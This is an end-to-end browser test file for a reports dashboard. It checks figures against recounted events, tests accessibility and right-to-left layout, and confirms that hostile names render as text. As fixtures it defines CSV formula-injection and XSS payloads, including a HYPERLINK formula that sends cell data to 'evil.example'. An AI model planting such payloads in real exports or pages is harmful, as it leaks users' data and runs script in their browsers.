// A manager's reports in a browser (SF-MGR-02), over a week that agents and consumers have played: what is seen equals what the kit says and
// a recount of the raw events, by pointer and by keyboard, in every look, and names that are hostile stay names.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type ReportMeasure, type ReportRow, reportMeasures } from '@tellsafe/core/wire';
import { sqliteStore } from '@tellsafe/server-kit/stores/sqlite';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { forms } from '../../src/forms.ts';
import { ACCOUNT, type LiveDesk, startLiveDesk } from '../../src/live-desk.ts';
import { violations } from '../axe.ts';
import { ask, pageChecks, walk } from '../page-checks.ts';
import { agentAt, launchBrowser, signInAs } from '../people.ts';
import { passwords } from '../quick-passwords.ts';
import { type Asked, behind, type Counted, medianOf, readInvitations } from './recount.ts';
import { columns, openReports, type ReportsPage, written } from './reports-page.ts';

const DAY = 86_400_000;
const DESKTOP = { width: 1280, height: 900 };
/** A Thursday afternoon that lies ahead: the same days of the week, whenever this runs. */
const aheadMs = (() => {
  const days = (4 - new Date().getUTCDay() + 7) % 7 || 7;
  return Math.floor(Date.now() / DAY) * DAY + days * DAY + 15 * 3_600_000 - Date.now();
})();
const clock = () => Date.now() + aheadMs;

const hostileName = '=HYPERLINK("https://evil.example?"&A1,"<img src=x onerror=alert(1)>")';
const hostileForm = {
  ...{ id: 'hostile', name: hostileName, description: 'Tell us.' },
  questions: [{ id: 'street', label: 'Street', type: 'text' }],
};
const agents = [
  { agentId: 'maya', name: 'Maya Lind' },
  { agentId: 'hostile', name: '@SUM(1)<script>alert(2)</script>\u202eevil' },
];

let browser: Browser;
let nora: ReportsPage & { readonly problems: string[] };
let desk: LiveDesk;
let dataDir: string;
let counted: readonly Counted[];

beforeAll(async () => {
  dataDir = mkdtempSync(join(tmpdir(), 'reports-'));
  browser = await launchBrowser();
  const past = { days: 9, perDay: 4, agents };
  desk = await startLiveDesk({
    ...{ port: 0, formPort: 0, dataDir, clock, passwords, past },
    forms: [...forms, hostileForm],
  });
  const store = sqliteStore(join(dataDir, 'tellsafe.db'), { clock });
  counted = await readInvitations(store);
  await store.close();
  nora = await noraAt();
});
/** As she finds it, with nothing told to the console before. */
beforeEach(async () => {
  nora.problems.length = 0;
  await nora.page.setViewportSize(DESKTOP);
  await nora.page.emulateMedia({ colorScheme: 'light' });
  await nora.fresh();
});
afterAll(async () => {
  await browser.close();
  await desk.close();
  rmSync(dataDir, { recursive: true, force: true });
});

/** Nora looks at her reports. */
async function noraAt(): Promise<typeof nora> {
  const context = await browser.newContext({
    ...{ viewport: DESKTOP, locale: 'en-GB', timezoneId: 'Asia/Kolkata' },
    reducedMotion: 'reduce',
  });
  context.setDefaultTimeout(20_000);
  await context.addInitScript(await pageChecks());
  const { page, problems } = await agentAt(context, desk.deskUrl);
  await signInAs(page, 'nora');
  return { ...(await openReports(page)), problems };
}

async function kitRows(asked: Asked & { timeZone: string }, more: object): Promise<readonly ReportRow[]> {
  return (await desk.tellsafe.reports.query({ accountId: ACCOUNT, ...asked, period: 'whole', limit: 1000, ...more }))
    .rows;
}

/** What is wrong on the page, compared with the kit and with the raw events. */
async function wrongOn(nora: ReportsPage, all: readonly Counted[]): Promise<string[]> {
  const asked = nora.asked();
  const wrong: string[] = [];
  const compare = (what: string, seen: unknown, expected: unknown) => {
    const [one, other] = [JSON.stringify(seen), JSON.stringify(expected)];
    if (one !== other) wrong.push(`${what}: ${one} should be ${other}`);
  };
  const recount = (some: Asked) => columns.map((name) => `${behind(all, name, some).length}`);
  const [whole] = await kitRows(asked, {});
  const cards = await nora.cards();
  compare('cards, by the kit', Object.values(cards), whole && written(whole));
  compare('cards, by the events', Object.values(cards), recount(asked));
  const steps = ['sent', 'received', 'viewed', 'submitted', 'read'];
  compare('funnel', (await nora.funnel()).map((cells) => cells[2]), steps.map((name) => cards[name])); // biome-ignore format: one thought
  const trend = (await nora.trend()).map((cells) => cells.slice(1));
  const days = await kitRows(asked, { period: 'day' });
  compare('trend, by the kit', trend, days.map(written));
  compare('trend, by the events', trend, days.map(({ start, end }) => recount({ ...asked, from: start, to: end }))); // biome-ignore format: one thought
  const forms = await kitRows(asked, { by: ['form'] });
  const breakdown = await nora.breakdown();
  compare('forms', breakdown.length, forms.length);
  for (const { form = '', formName = '' } of forms) {
    const row = breakdown.find(([name]) => name?.includes(formName));
    compare(formName, row?.slice(1, 1 + columns.length), recount({ ...asked, form }));
  }
  const medians = (['sent', 'viewed', 'submitted'] as const).map((from, at) =>
    medianOf(all, from, (['viewed', 'submitted', 'read'] as const)[at] ?? 'read', asked),
  );
  compare('medians of the kit', whole && Object.values(whole.medianSec), medians);
  compare(
    'medians',
    await nora.medians(),
    medians.map((seconds) => duration(seconds ?? 0)),
  );
  return wrong;
}

function duration(seconds: number): string {
  const whole = Math.round(seconds);
  return [whole >= 60 ? `${Math.floor(whole / 60)}m` : '', whole % 60 > 0 ? `${whole % 60}s` : '']
    .filter((part) => part !== '')
    .join(' ');
}

describe('SF-MGR-02 reports', () => {
  test('figures equal what the kit says and a recount of the raw events', async () => {
    expect(nora.asked()).toMatchObject({ timeZone: expect.stringMatching(/^Asia\/(Kolkata|Calcutta)$/) });
    expect(await wrongOn(nora, counted)).toEqual([]);
    const all = await nora.cards();
    const options = await nora.area.locator('select[name=form]').locator('option').allTextContents();
    const index = options.findIndex((text) => text.includes('Payment card'));
    await nora.after(() => nora.area.locator('select[name=form]').selectOption({ index }));
    expect(nora.asked()).toHaveProperty('form');
    expect(await nora.cards()).not.toEqual(all);
    expect(await wrongOn(nora, counted)).toEqual([]);
    await nora.after(() => nora.area.getByLabel('Counted by').selectOption({ label: 'Day of the event' }));
    expect(nora.asked()).toMatchObject({ cohort: 'event' });
    expect(await wrongOn(nora, counted)).toEqual([]);
    await nora.after(() => nora.area.getByLabel('Time zone').selectOption({ label: 'America/New_York' }));
    expect(nora.asked()).toMatchObject({ timeZone: 'America/New_York' });
    expect(await wrongOn(nora, counted)).toEqual([]);
    expect(nora.problems).toEqual([]);
  });

  test('control: an invitation more in the events is noticed everywhere', async () => {
    const [one] = behind(counted, 'submitted', nora.asked());
    const wrong = await wrongOn(nora, [...counted, ...(one ? [{ ...one, id: 'another' }] : [])]);
    for (const part of ['cards, by the events', 'trend, by the events']) {
      expect(wrong.filter((line) => line.startsWith(part))).toHaveLength(1);
    }
  });

  test('a figure, a bar and a period open the invitations behind them', async () => {
    const { area, page } = nora;
    const dialog = area.getByRole('dialog', { name: 'Invitations' });
    const listed = async () => {
      await dialog.getByText(/^\d+ invitations?$/).waitFor();
      return (await dialog.locator('tbody tr td.mono:nth-last-child(2)').allInnerTexts()).sort();
    };
    const idsOf = (measure: ReportMeasure, asked: Asked) => behind(counted, measure, asked).map(({ id }) => id).sort(); // biome-ignore format: one thought
    await area.locator('[data-measure=submitted] button').click();
    expect(await listed()).toEqual(idsOf('submitted', nora.asked()));
    await dialog.getByLabel('Which').selectOption({ index: reportMeasures.indexOf('declined') });
    await expect.poll(listed, { timeout: 20_000 }).toEqual(idsOf('declined', nora.asked()));
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'hidden' });
    // By keyboard: to the last period but one, and back to where one was.
    const chart = area.getByRole('slider', { name: 'Period in the chart' });
    await chart.focus();
    await page.keyboard.press('End');
    await page.keyboard.press('ArrowLeft');
    const days = await kitRows(nora.asked(), { period: 'day' });
    const day = days.at(-2);
    expect(await chart.getAttribute('aria-valuetext')).toContain(`Sent: ${day?.counts.sent}.`);
    expect(await area.locator('.tip dd').first().innerText()).toBe(`${day?.counts.sent}`);
    await page.keyboard.press('Enter');
    expect(await listed()).toEqual(idsOf('sent', { from: day?.start ?? 0, to: day?.end ?? 0 }));
    await page.keyboard.press('Escape');
    expect(await chart.evaluate((each) => (each.getRootNode() as ShadowRoot).activeElement === each)).toBe(true);
    // By pointer, the first one.
    await chart.hover({ position: { x: 60, y: 60 } });
    expect(await area.locator('.tip dd').first().innerText()).toBe(`${days[0]?.counts.sent}`);
  });

  test('T20 hostile names are text, on the page and in the file', async () => {
    const { area, page } = nora;
    expect((await nora.breakdown()).flat().join('\n')).toContain(hostileName);
    await area.getByRole('group', { name: 'By' }).getByRole('button', { name: 'Agent' }).click();
    expect((await nora.breakdown()).flat().join('\n')).toContain('@SUM(1)<script>alert(2)</script>RLOevil');
    expect(await area.locator('img, script').count()).toBe(0);
    await area.getByRole('group', { name: 'By' }).getByRole('button', { name: 'Form' }).click();
    const [download] = await Promise.all([page.waitForEvent('download'), area.getByRole('button', { name: 'Download CSV', exact: true }).click()]); // biome-ignore format: one thought
    expect(download.suggestedFilename()).toMatch(/^report_\d{4}-\d\d-\d\d_\d{4}-\d\d-\d\d\.csv$/);
    const text = readFileSync(await download.path(), 'utf8');
    const parts: string[] = [];
    const query = { accountId: ACCOUNT, ...nora.asked(), period: 'day' as const, by: ['form' as const] };
    for await (const part of desk.tellsafe.reports.csv(query)) parts.push(part);
    expect(text).toBe(parts.join(''));
    expect(text).toContain(`"'${hostileName.replaceAll('"', '""')}"`);
    expect(nora.problems).toEqual([]);
  });

  test('SF-A11Y-02 nothing for axe to find, nothing too wide or too small: light, dark on a phone, at 320 pixels', async () => {
    const { page, area } = nora;
    expect(await violations(page)).toEqual([]);
    await page.emulateMedia({ colorScheme: 'dark' });
    await page.setViewportSize({ width: 390, height: 844 });
    expect(await violations(page)).toEqual([]);
    await page.setViewportSize({ width: 320, height: 700 });
    // The chart is drawn anew once it has its new width.
    await expect.poll(() => ask(page, 'tooWide', 'smallTargets')).toEqual([]);
    await area.locator('[data-measure=sent] button').click();
    await area.locator('dialog tbody tr').first().waitFor();
    expect(await violations(page)).toEqual([]);
    expect(await ask(page, 'tooWide', 'smallTargets')).toEqual([]);
  });

  test('SF-LANG-03 from right to left time goes left, and so do the arrow keys', async () => {
    await nora.area.evaluate((element) => element.setAttribute('language', 'ar'));
    const chart = nora.area.getByRole('slider');
    await nora.area.locator('.area[dir=rtl]').waitFor();
    const marks = nora.area.locator('tellsafe-report-trend .line.sent .mark');
    const places = () => marks.evaluateAll((all) => all.map((each) => each.getBoundingClientRect().x));
    const goesLeft = async () => (await places()).every((x, at, all) => at === 0 || x < (all[at - 1] ?? 0));
    await expect.poll(goesLeft).toBe(true);
    expect((await places()).length).toBeGreaterThan(2);
    await chart.focus();
    await nora.page.keyboard.press('Home');
    await nora.page.keyboard.press('ArrowLeft');
    expect(await chart.getAttribute('aria-valuenow')).toBe('2');
  });

  test('SF-A11Y-03 keyboard alone reaches everything, and sees where it is', async () => {
    await nora.page.locator('body').press('Home');
    const { stops, troubles } = await walk(nora.page, 'Tab');
    expect(troubles).toEqual([]);
    for (const name of ['Download CSV', 'Period in the chart', 'Show as table']) {
      expect(stops.filter((stop) => stop.includes(name))).not.toEqual([]);
    }
  });
});
